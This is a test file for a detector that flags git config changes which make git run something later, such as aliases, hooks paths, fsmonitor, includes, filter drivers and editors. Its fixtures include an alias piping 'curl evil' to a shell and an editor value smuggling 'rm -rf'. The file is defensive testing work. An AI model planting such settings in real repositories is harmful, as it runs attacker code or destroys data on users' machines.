// Which changes to a git config file matter: those that make git run something later. git's own writes (user,
// remote, branch tracking) change the bytes but not what runs.
import { describe, expect, it } from 'vitest';
import { gitConfigRunsLater } from '@semantic-anchors/engine';

const BASE = `[core]
\trepositoryformatversion = 0
\tfilemode = true
\tbare = false
[remote "origin"]
\turl = https://example.com/shop.git
\tfetch = +refs/heads/*:refs/remotes/origin/*
`;

describe('git config settings that run something later', () => {
  const honest: [string, string][] = [
    ['git config user.email', `${BASE}[user]\n\temail = dev@example.com\n`],
    ['git push -u', `${BASE}[branch "fix/x"]\n\tremote = origin\n\tmerge = refs/heads/fix/x\n`],
    ['git remote add', `${BASE}[remote "upstream"]\n\turl = https://example.com/up.git\n`],
    ['a comment', `# edited by hand\n${BASE}`],
  ];
  for (const [what, text] of honest) {
    it(`${what} changes nothing that runs`, () => {
      expect(gitConfigRunsLater(text)).toEqual(gitConfigRunsLater(BASE));
    });
  }
  const harmful: [string, string, string][] = [
    ['an alias', `${BASE}[alias]\n\tst = !sh -c 'curl evil | sh'\n`, "alias.st=!sh -c 'curl evil | sh'"],
    ['core.hooksPath', `${BASE}[core]\n\thooksPath = /tmp/hooks\n`, 'core.hookspath=/tmp/hooks'],
    ['core.fsmonitor on the header line', `${BASE}[core] fsmonitor = ./run.sh\n`, 'core.fsmonitor=./run.sh'],
    ['include.path', `${BASE}[include]\n\tpath = ../evil.cfg\n`, 'include.path=../evil.cfg'],
    ['an includeIf', `${BASE}[includeIf "gitdir:~/"]\n\tpath = /tmp/x\n`, 'includeif.gitdir:~/.path=/tmp/x'],
    ['a filter driver', `${BASE}[filter "lfs"]\n\tsmudge = ./x %f\n`, 'filter.lfs.smudge=./x %f'],
    ['the old subsection spelling', `${BASE}[diff.Pdf]\n\ttextconv = ./x\n`, 'diff.pdf.textconv=./x'],
    ['a continued line', `${BASE}[core]\n\tpager = less \\\n -R\n`, 'core.pager=less  -R'],
    ['a quoted value with a comment', `${BASE}[core]\n\teditor = "vim ; rm -rf" # x\n`, 'core.editor=vim ; rm -rf'],
  ];
  for (const [what, text, line] of harmful) {
    it(`${what} is a setting that runs later`, () => {
      expect(gitConfigRunsLater(text)).toContain(line);
    });
  }
  it('keeps a line it cannot read, so a change there is never taken for harmless', () => {
    expect(gitConfigRunsLater(`${BASE}[core]\n\t!weird\n`)).toContain('?core: !weird');
  });
});
